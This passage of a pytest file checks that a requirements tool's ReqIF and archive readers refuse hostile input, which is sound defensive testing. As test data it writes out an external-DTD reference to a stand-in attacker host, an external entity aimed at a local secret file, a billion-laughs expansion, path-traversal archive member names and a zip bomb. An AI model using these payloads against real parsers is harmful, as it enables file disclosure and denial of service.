        "\ufeff<!-- c --><?pi x?>\n<!DOCTYPE REQ-IF SYSTEM 'http://attacker.invalid/x.dtd'><REQ-IF/>",
        '<?xml version="1.0"?><!ENTITY x "y"><REQ-IF/>',
    ],
    ids=["external-entity", "parameter-entity", "billion-laughs", "doctype-after-comment", "bare-entity"],
)
def test_doctype_and_entities_are_refused_before_parsing(tmp_path: Path, document: str) -> None:
    error = reqif_error(tmp_path, document)
    assert "declaration, which covguard refuses" in error.message
    assert error.location is not None
    assert error.location.line == (1 if "ENTITY x" in document else 2)


@pytest.mark.parametrize("kind", ["external", "billion-laughs"])
def test_parser_does_not_expand_entities_even_without_the_prolog_check(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    """Defence in depth: were the DOCTYPE check bypassed, the parser still expands no entity."""
    secret = write(tmp_path, "secret.txt", "TOP-SECRET-42")
    if kind == "external":
        subset = f'<!ENTITY e SYSTEM "{secret.as_uri()}">'
    else:
        subset = '<!ENTITY e0 "lol">' + "".join(
            f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10)
        )
        subset += '<!ENTITY e "&e9;">'
    text = reqif_text([{"id": "A-1", "name": "One", "text": "<xhtml:div>&e;</xhtml:div>", "class": "A"}])
    text = text.replace("<REQ-IF ", f"<!DOCTYPE REQ-IF [{subset}]>\n<REQ-IF ", 1)
    monkeypatch.setattr(reqif_module, "check_prolog", lambda data, where: None)
    try:
        frame = read_requirements([write(tmp_path, "r.reqif", text)])
    except InputError as error:
        refused = error  # libxml2 refuses the amplification itself: as good
    else:
        assert frame["attributes"].tolist() == [{"ReqIF.Text": ""}]
        return
    assert kind == "billion-laughs"
    assert "amplification" in refused.message


def test_extreme_nesting_is_refused(tmp_path: Path) -> None:
    document = REQIF_OPEN + "<THE-HEADER>" * 10_000 + "</THE-HEADER>" * 10_000 + "</REQ-IF>"
    error = reqif_error(tmp_path, document)
    assert error.message == "the ReqIF document is nested deeper than 256 levels"


def test_parser_nesting_limit_applies_above_256(tmp_path: Path) -> None:
    document = REQIF_OPEN + "<THE-HEADER>" * 1000 + "</THE-HEADER>" * 1000 + "</REQ-IF>"
    error = reqif_error(tmp_path, document, RequirementOptions(max_depth=5000))
    assert error.message == "the ReqIF document is nested deeper than 256 levels"


def test_spec_object_identifier_used_twice_is_refused(tmp_path: Path) -> None:
    text = reqif_text(
        [{"id": "A-1", "name": "One", "class": "A"}, {"id": "A-2", "name": "Two", "class": "A"}]
    )
    text = text.replace('IDENTIFIER="_so-1"', 'IDENTIFIER="_so-0"')
    assert reqif_error(tmp_path, text).message == "SPEC-OBJECT IDENTIFIER '_so-0' is used twice"


def test_nesting_cap_is_configurable() -> None:
    with pytest.raises(InputError, match="nested deeper than 4 levels") as caught:
        read_requirements([PUMP_REQIF], RequirementOptions(max_depth=4))
    assert caught.value.location is not None
    assert caught.value.location.line is not None


def test_reqif_over_the_size_cap_is_refused() -> None:
    error = read_error([PUMP_REQIF], RequirementOptions(max_bytes=1000))
    assert "more than the limit of 1000 bytes" in error.message


@pytest.mark.parametrize(
    ("document", "message"),
    [
        ("\ufeff<REQ-IF/>".encode("utf-16"), "not UTF-8"),
        (
            b'<?xml version="1.0" encoding="ISO-8859-1"?><REQ-IF/>',
            "declares the encoding 'ISO-8859-1'",
        ),
    ],
)
def test_non_utf8_reqif_is_refused(tmp_path: Path, document: bytes, message: str) -> None:
    assert message in reqif_error(tmp_path, document).message


# ---------------------------------------------------------------------------------------------
# ReqIF archives


def test_reqifz_reads_every_reqif_member_and_ignores_attachments(tmp_path: Path) -> None:
    other = reqif_text([{"id": "PUMP-SRS-100", "name": "Extra", "class": "B"}]).encode()
    archive = make_zip(
        tmp_path / "pump.reqifz",
        {"pump.reqif": PUMP_REQIF.read_bytes(), "images/pump.png": b"\x89PNG...", "more/extra.REQIF": other},
    )
    frame = read_requirements([archive])
    assert frame["id"].tolist()[-1] == "PUMP-SRS-100"
    assert frame["source"].unique().tolist() == [str(archive)]
    pd.testing.assert_frame_equal(core(frame).iloc[:4], core(read_requirements([PUMP_REQIF])))


def test_reqifz_duplicate_across_members_names_both(tmp_path: Path) -> None:
    data = PUMP_REQIF.read_bytes()
    archive = make_zip(tmp_path / "a.reqifz", {"one.reqif": data, "two.reqif": data})
    error = read_error([archive])
    assert error.message == f"duplicate requirement ID 'PUMP-SRS-001' (also in {archive}[one.reqif], line 82)"
    assert error.location is not None
    assert error.location.path == f"{archive}[two.reqif]"


@pytest.mark.parametrize("name", ["../evil.reqif", "a/../../evil.reqif", "/abs/evil.reqif", "C:\\evil.reqif"])
def test_reqifz_with_unsafe_member_path_is_refused(tmp_path: Path, name: str) -> None:
    archive = make_zip(tmp_path / "a.reqifz", {"pump.reqif": PUMP_REQIF.read_bytes(), name: b"<x/>"})
    error = read_error([archive])
    assert error.message == f"the ReqIF archive has a member with an unsafe path: {name!r}"


def test_reqifz_over_the_size_cap_is_refused(tmp_path: Path) -> None:
    archive = make_zip(tmp_path / "a.reqifz", {"pump.reqif": PUMP_REQIF.read_bytes()})
    error = read_error([archive], RequirementOptions(max_bytes=1000))
    assert "unpack to" in error.message
    assert "more than the limit of 1000 bytes" in error.message


def test_zip_bomb_is_refused(tmp_path: Path) -> None:
    archive = make_zip(
        tmp_path / "bomb.reqifz", {"bomb.reqif": b"<REQ-IF>" + b" " * 5_000_000 + b"</REQ-IF>"}
    )
    error = read_error([archive])
    assert "a sign of a zip bomb" in error.message


@pytest.mark.parametrize(
    ("members", "message"),
    [
        ({"images/a.png": b"png"}, "contains no .reqif document"),
        ({}, "contains no .reqif document"),
        ({"doc.reqif": b"<REQ-IF"}, "malformed XML"),
    ],
)
def test_reqifz_without_usable_documents_is_refused(
    tmp_path: Path, members: dict[str, bytes], message: str
) -> None:
    assert message in read_error([make_zip(tmp_path / "a.reqifz", members)]).message


def test_reqifz_that_is_not_a_zip_is_refused(tmp_path: Path) -> None:
    error = read_error([write(tmp_path, "a.reqifz", PUMP_REQIF.read_bytes())])
    assert error.message.startswith("cannot open the ReqIF archive")


def test_reqifz_with_encrypted_or_corrupt_member_is_refused(tmp_path: Path) -> None:
    archive = make_zip(tmp_path / "a.reqifz", {"pump.reqif": PUMP_REQIF.read_bytes()})
    data = bytearray(archive.read_bytes())
    data[60:90] = b"\x00" * 30  # damage the compressed stream
    archive.write_bytes(bytes(data))
    with pytest.raises(InputError):
        read_requirements([archive])


# ---------------------------------------------------------------------------------------------
# The sample firmware


def test_sample_firmware_csv_and_reqif_agree() -> None:
    csv_path = SAMPLE_FIRMWARE / "requirements.csv"
    reqif_path = SAMPLE_FIRMWARE / "requirements.reqif"
    from_csv = read_requirements([csv_path])
    from_reqif = read_requirements([reqif_path])
    assert not from_csv.empty
    pd.testing.assert_frame_equal(core(from_csv), core(from_reqif))
    rationale = [attributes.get("rationale", "") for attributes in from_csv["attributes"]]
    text = [attributes.get("ReqIF.Text", "") for attributes in from_reqif["attributes"]]
    assert [" ".join(r.split()) for r in rationale] == text
